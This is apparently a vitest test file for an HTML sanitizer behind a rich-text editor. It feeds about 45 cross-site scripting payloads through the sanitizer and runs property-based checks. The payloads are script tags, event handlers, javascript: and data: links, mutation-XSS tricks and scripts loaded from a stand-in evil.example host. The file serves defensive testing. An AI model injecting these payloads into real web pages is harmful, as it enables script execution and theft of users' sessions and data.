import fc from 'fast-check';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize-html.js';

const allowedTags = new Set([
  'p',
  'br',
  'hr',
  'strong',
  'em',
  'u',
  's',
  'h1',
  'h2',
  'h3',
  'h4',
  'ul',
  'ol',
  'li',
  'blockquote',
  'code',
  'pre',
  'a',
]);
const allowedAttributes: Record<string, Set<string>> = {
  a: new Set(['href', 'target', 'rel']),
  ol: new Set(['start']),
};

/**
 * Parses the output as a browser would and lists everything that could run
 * script or restyle the page: any element or attribute outside the allow
 * list, and any link that is not http(s), mailto, tel, a same-site path or a
 * fragment.
 */
function findDangers(html: string): string[] {
  const { document } = new JSDOM(`<!doctype html><body>${html}</body>`).window;
  const dangers: string[] = [...document.body.attributes].map(
    (attribute) => `attribute body[${attribute.name}]`,
  );
  for (const element of document.body.querySelectorAll('*')) {
    const tag = element.localName;
    if (!allowedTags.has(tag) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') {
      dangers.push(`element <${tag}>`);
    }
    for (const attribute of element.attributes) {
      if (!allowedAttributes[tag]?.has(attribute.name)) {
        dangers.push(`attribute ${tag}[${attribute.name}]`);
      }
    }
    const href = element.getAttribute('href');
    if (href !== null && !/^(?:https?:|mailto:|tel:|\/(?!\/)|#)/i.test(href.trim())) {
      dangers.push(`link ${href}`);
    }
    const start = element.getAttribute('start');
    if (start !== null && !/^\d+$/.test(start)) {
      dangers.push(`start ${start}`);
    }
    if (tag === 'a' && href !== null && element.getAttribute('rel') !== 'noopener noreferrer nofollow') {
      dangers.push('link without rel');
    }
  }
  return dangers;
}

const xssPayloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#10;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">protocol-relative</a>',
  '<p onclick="alert(1)">click</p>',
  '<p onmouseover=alert(1)>hover</p>',
  '<strong style="background:url(javascript:alert(1))">styled</strong>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<p class="x" id="cookie" data-x="1" aria-hidden="true">attrs</p>',
  '<a href="https://ok.example" onclick="alert(1)" style="color:red">link</a>',
  '<a href="https://ok.example" target="_parent">frame-busting target</a>',
  '<ol start="1 onmouseover=alert(1)"><li>x</li></ol>',
  '<img src="x" alt="y">',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
];

describe('sanitizeHtml', () => {
  it('has a meaningful payload list', () => {
    expect(xssPayloads.length).toBeGreaterThanOrEqual(30);
    // The checker is not vacuous: unsanitized, every payload is flagged except the two that are inert markup.
    const unflagged = xssPayloads.filter((payload) => findDangers(payload).length === 0);
    expect(unflagged).toEqual([
      '<!--<img src=x onerror=alert(1)>-->',
      '<![CDATA[<script>alert(1)</script>]]>',
    ]);
  });

  it.each(xssPayloads)('neutralizes %s', (payload) => {
    const clean = sanitizeHtml(payload);
    expect(findDangers(clean)).toEqual([]);
    expect(clean).not.toMatch(/<script|javascript:|onerror|onload|<iframe|<style|style=/i);
  });

  it('keeps what a rich-text editor produces, unchanged', () => {
    const editorHtml = [
      '<h1>Consulta</h1><h2>Motivo</h2><h3>Detalle</h3><h4>Nota</h4>',
      '<p>Paciente con <strong>fiebre</strong>, <em>tos</em>, <u>subrayado</u> y <s>tachado</s>.<br>Segunda línea</p>',
      '<ul><li><p>Uno</p></li><li><p>Dos</p></li></ul>',
      '<ol start="3"><li><p>Tres</p></li></ol>',
      '<blockquote><p>Cita</p></blockquote>',
      '<pre><code>dosis = 5 &lt; 10 &amp;&amp; ok</code></pre>',
      '<p>Usa <code>inline</code></p><hr>',
      '<p><a href="https://who.int/es" target="_blank" rel="noopener noreferrer nofollow">OMS</a> ',
      '<a href="mailto:clinica@example.org" rel="noopener noreferrer nofollow">correo</a> ',
      '<a href="/admin/patients/1" rel="noopener noreferrer nofollow">ficha</a> ',
      '<a href="#notas" rel="noopener noreferrer nofollow">notas</a></p>',
    ].join('');
    expect(sanitizeHtml(editorHtml)).toBe(editorHtml);
  });

  it('forces a safe rel on links whatever the client sent', () => {
    expect(sanitizeHtml('<a href="https://x.example" rel="opener">x</a>')).toBe(
      '<a href="https://x.example" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  it('keeps the text of removed elements but not of scripts and styles', () => {
    expect(sanitizeHtml('<div><span>hola</span></div><script>var secret</script><style>p{}</style>')).toBe(
      'hola',
    );
  });

  it('gives output that a browser parses back to the same markup', () => {
    // Removing <table> would otherwise leave <p><p></p></p>, which re-parses as three paragraphs.
    const clean = sanitizeHtml('<p><table><p>');
    expect(sanitizeHtml(clean)).toBe(clean);
    expect(new JSDOM(`<body>${clean}`).window.document.body.innerHTML).toBe(clean);
  });

  it('output is safe and stable for arbitrary mixes of markup', () => {
    const fragment = fc.constantFrom(
      ...xssPayloads,
      '<p>',
      '</p>',
      '<a href="https://ok.example">',
      '</a>',
      '<svg>',
      '<math>',
      '<table>',
      '<style>',
      '"',
      "'",
      '<',
      '>',
      '&lt;',
      '<!--',
      '-->',
      'text',
      '<strong>',
      '</strong>',
      '<ol start="2">',
    );
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 12 }), (parts) => {
        const clean = sanitizeHtml(parts.join(''));
        expect(findDangers(clean)).toEqual([]);
        expect(sanitizeHtml(clean)).toBe(clean);
        // What a browser builds from the stored markup is itself already clean.
        const browserView = new JSDOM(`<body>${clean}`).window.document.body.innerHTML;
        expect(sanitizeHtml(browserView)).toBe(browserView);
      }),
      { numRuns: 500 },
    );
    // 500 jsdom round trips: seconds alone, far more while other suites share the two cores.
  }, 120_000);
});
